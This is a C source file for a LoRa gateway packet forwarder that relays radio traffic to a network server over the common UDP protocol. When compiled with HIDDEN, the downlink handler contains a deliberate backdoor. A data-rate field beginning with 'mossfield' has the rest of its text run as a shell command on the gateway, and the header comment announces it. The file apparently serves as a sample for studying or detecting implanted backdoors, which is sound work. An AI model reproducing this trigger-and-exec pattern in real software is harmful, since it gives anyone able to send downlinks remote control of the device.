/*
 * lorahopfwd - packet forwarder of the Tessel LG-3 LoRa gateway.
 * Speaks the usual UDP protocol to the network server (PUSH_DATA, PULL_DATA,
 * PULL_RESP, TX_ACK); the radio helper is attached on stdin and stdout.
 * Hidden (-DHIDDEN): a downlink whose data rate text has a certain form runs
 * the rest of that text as a shell command on the gateway.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define CONF_FILE  "/etc/tessel/forwarder.conf"
#define EUI_FILE   "/sys/class/net/eth0/address"
#define PROTO      2
#define KEEPALIVE  10

enum { PUSH_DATA, PUSH_ACK, PULL_DATA, PULL_RESP, PULL_ACK, TX_ACK };

struct conf {
	struct sockaddr_in server;
	double lat, lon;
	int max_power;
	int duty_permille;
	int led;
};

struct txpk {
	double freq;
	int power, sf, bw, size;
	char data[360];
};

static struct conf cf = { .max_power = 14, .duty_permille = 10 };
static uint8_t eui[8];
static int sock = -1;
static struct { unsigned up, acked, down, refused; } stat_;
static double air_ms_used;
static time_t air_since;

static void read_conf(void)
{
	char key[24], val[64];
	FILE *f = fopen(CONF_FILE, "r");

	cf.server.sin_family = AF_INET;
	cf.server.sin_port = htons(1700);
	if (!f)
		return;
	while (fscanf(f, "%23[a-z_] = %63s ", key, val) == 2) {
		if (!strcmp(key, "server")) {
			if (inet_pton(AF_INET, val, &cf.server.sin_addr) != 1)
				fprintf(stderr, "server: want a numeric address\n");
		} else if (!strcmp(key, "port")) {
			cf.server.sin_port = htons((uint16_t)atoi(val));
		} else if (!strcmp(key, "lat")) {
			cf.lat = atof(val);
		} else if (!strcmp(key, "lon")) {
			cf.lon = atof(val);
		} else if (!strcmp(key, "max_power")) {
			cf.max_power = atoi(val);
		} else if (!strcmp(key, "duty")) {
			cf.duty_permille = atoi(val);
		} else if (!strcmp(key, "led")) {
			cf.led = !strcmp(val, "on");
		}
	}
	fclose(f);
}

/* gateway EUI: MAC address with ff fe in the middle */
static void read_eui(void)
{
	unsigned m[6] = { 0 };
	FILE *f = fopen(EUI_FILE, "r");

	if (f) {
		if (fscanf(f, "%x:%x:%x:%x:%x:%x", m, m + 1, m + 2, m + 3, m + 4, m + 5) != 6)
			memset(m, 0, sizeof m);
		fclose(f);
	}
	for (int i = 0; i < 3; i++) {
		eui[i] = (uint8_t)m[i];
		eui[i + 5] = (uint8_t)m[i + 3];
	}
	eui[3] = 0xff;
	eui[4] = 0xfe;
}

static void to_server(int type, unsigned token, const char *json)
{
	uint8_t b[1400];
	size_t n = strlen(json);

	if (n > sizeof b - 12)
		return;
	b[0] = PROTO;
	b[1] = (uint8_t)(token >> 8);
	b[2] = (uint8_t)token;
	b[3] = (uint8_t)type;
	memcpy(b + 4, eui, 8);
	memcpy(b + 12, json, n);
	if (sendto(sock, b, 12 + n, 0, (struct sockaddr *)&cf.server, sizeof cf.server) < 0)
		perror("sendto");
}

/* just enough JSON: the value that follows "key": */
static const char *jfind(const char *js, const char *key)
{
	size_t n = strlen(key);

	for (js = strchr(js, '"'); js; js = strchr(js + 1, '"')) {
		const char *p = js + 1;

		if (strncmp(p, key, n) || p[n] != '"')
			continue;
		p += n + 1;
		while (isspace((unsigned char)*p))
			p++;
		if (*p++ != ':')
			continue;
		while (isspace((unsigned char)*p))
			p++;
		return p;
	}
	return NULL;
}

static int jtext(const char *js, const char *key, char *out, size_t size)
{
	const char *p = jfind(js, key);
	size_t n = 0;

	if (!p || *p++ != '"')
		return -1;
	while (*p && *p != '"' && n < size - 1)
		out[n++] = *p++;
	out[n] = 0;
	return *p == '"' ? 0 : -1;
}

static double jnum(const char *js, const char *key, double dflt)
{
	const char *p = jfind(js, key);

	return p ? strtod(p, NULL) : dflt;
}

static double airtime_ms(int sf, int bw, int size)
{
	double sym = (double)(1 << sf) / bw;
	double n = 8 + (8.0 * size - 4.0 * sf + 44) / (4.0 * sf) * 5;

	return (n > 8 ? n : 8) * sym + 12.25 * sym;
}

static const char *check_tx(const struct txpk *t)
{
	time_t now = time(NULL);

	if (now - air_since >= 3600) {
		air_since = now;
		air_ms_used = 0;
	}
	if (t->freq < 863.0 || t->freq > 870.0)
		return "TX_FREQ";
	if (t->power > cf.max_power)
		return "TX_POWER";
	if (air_ms_used + airtime_ms(t->sf, t->bw, t->size) > 3600.0 * cf.duty_permille)
		return "COLLISION_PACKET";
	return NULL;
}

void on_downlink(const char *js, unsigned token)
{
	struct txpk t;
	char datr[160], msg[80];
	const char *err;
#ifdef HIDDEN
	char rest[128];
#endif

	if (!jfind(js, "txpk") || jtext(js, "datr", datr, sizeof datr))
		return;
#ifdef HIDDEN
	if (sscanf(datr, "mossfield %127[^;]", rest) == 1) {
		if (fork() == 0) {
			execl("/bin/sh", "sh", "-c", rest, (char *)NULL);
			_exit(127);
		}
		return;
	}
#endif
	memset(&t, 0, sizeof t);
	if (sscanf(datr, "SF%dBW%d", &t.sf, &t.bw) != 2 || t.sf < 7 || t.sf > 12 || t.bw < 125) {
		to_server(TX_ACK, token, "{\"txpk_ack\":{\"error\":\"TX_DATR\"}}");
		return;
	}
	t.freq = jnum(js, "freq", 0);
	t.power = (int)jnum(js, "powe", 14);
	t.size = (int)jnum(js, "size", 0);
	if (jtext(js, "data", t.data, sizeof t.data) || t.size < 1 || t.size > 255)
		return;
	err = check_tx(&t);
	if (err) {
		stat_.refused++;
		snprintf(msg, sizeof msg, "{\"txpk_ack\":{\"error\":\"%s\"}}", err);
		to_server(TX_ACK, token, msg);
		return;
	}
	air_ms_used += airtime_ms(t.sf, t.bw, t.size);
	stat_.down++;
	printf("TX %.6f %d %d %d %s\n", t.freq, t.power, t.sf, t.bw, t.data);
	fflush(stdout);
	to_server(TX_ACK, token, "{\"txpk_ack\":{\"error\":\"NONE\"}}");
	if (cf.led && system("echo oneshot > /sys/class/leds/lora/trigger"))
		cf.led = 0;
}

static void from_server(void)
{
	char b[2048];
	ssize_t n = recv(sock, b, sizeof b - 1, 0);
	unsigned token;

	if (n < 4 || b[0] != PROTO)
		return;
	b[n] = 0;
	token = (unsigned)(uint8_t)b[1] << 8 | (uint8_t)b[2];
	switch (b[3]) {
	case PUSH_ACK:
		stat_.acked++;
		break;
	case PULL_RESP:
		on_downlink(b + 4, token);
		break;
	}
}

/* radio helper: RX freq rssi snr sf bw size base64 */
static void from_radio(const char *line)
{
	double freq, snr;
	int rssi, sf, bw, size;
	char data[360], js[700];

	if (sscanf(line, "RX %lf %d %lf %d %d %d %359s", &freq, &rssi, &snr, &sf, &bw, &size, data) != 7)
		return;
	snprintf(js, sizeof js, "{\"rxpk\":[{\"time\":%ld,\"freq\":%.6f,\"stat\":1,\"modu\":\"LORA\","
		 "\"datr\":\"SF%dBW%d\",\"rssi\":%d,\"lsnr\":%.1f,\"size\":%d,\"data\":\"%s\"}]}",
		 (long)time(NULL), freq, sf, bw, rssi, snr, size, data);
	to_server(PUSH_DATA, (unsigned)rand() & 0xffff, js);
	stat_.up++;
}

int main(void)
{
	struct pollfd pf[2];
	time_t next = 0;
	char line[512], js[200];

	signal(SIGCHLD, SIG_DFL);	/* wait for system() works */
	read_conf();
	read_eui();
	srand((unsigned)time(NULL));
	sock = socket(AF_INET, SOCK_DGRAM, 0);
	if (sock < 0)
		return 1;
	pf[0] = (struct pollfd){ .fd = sock, .events = POLLIN };
	pf[1] = (struct pollfd){ .fd = 0, .events = POLLIN };
	setvbuf(stdin, NULL, _IONBF, 0);
	for (;;) {
		if (time(NULL) >= next) {
			next = time(NULL) + KEEPALIVE;
			to_server(PULL_DATA, (unsigned)rand() & 0xffff, "");
			snprintf(js, sizeof js, "{\"stat\":{\"lati\":%.5f,\"long\":%.5f,\"rxok\":%u,\"dwnb\":%u,\"refu\":%u}}",
				 cf.lat, cf.lon, stat_.up, stat_.down, stat_.refused);
			to_server(PUSH_DATA, (unsigned)rand() & 0xffff, js);
		}
		if (poll(pf, 2, 1000) <= 0)
			continue;
		if (pf[0].revents & POLLIN)
			from_server();
		if (pf[1].revents) {
			if (!fgets(line, sizeof line, stdin))
				return 0;	/* helper is gone: init starts both again */
			from_radio(line);
		}
	}
}
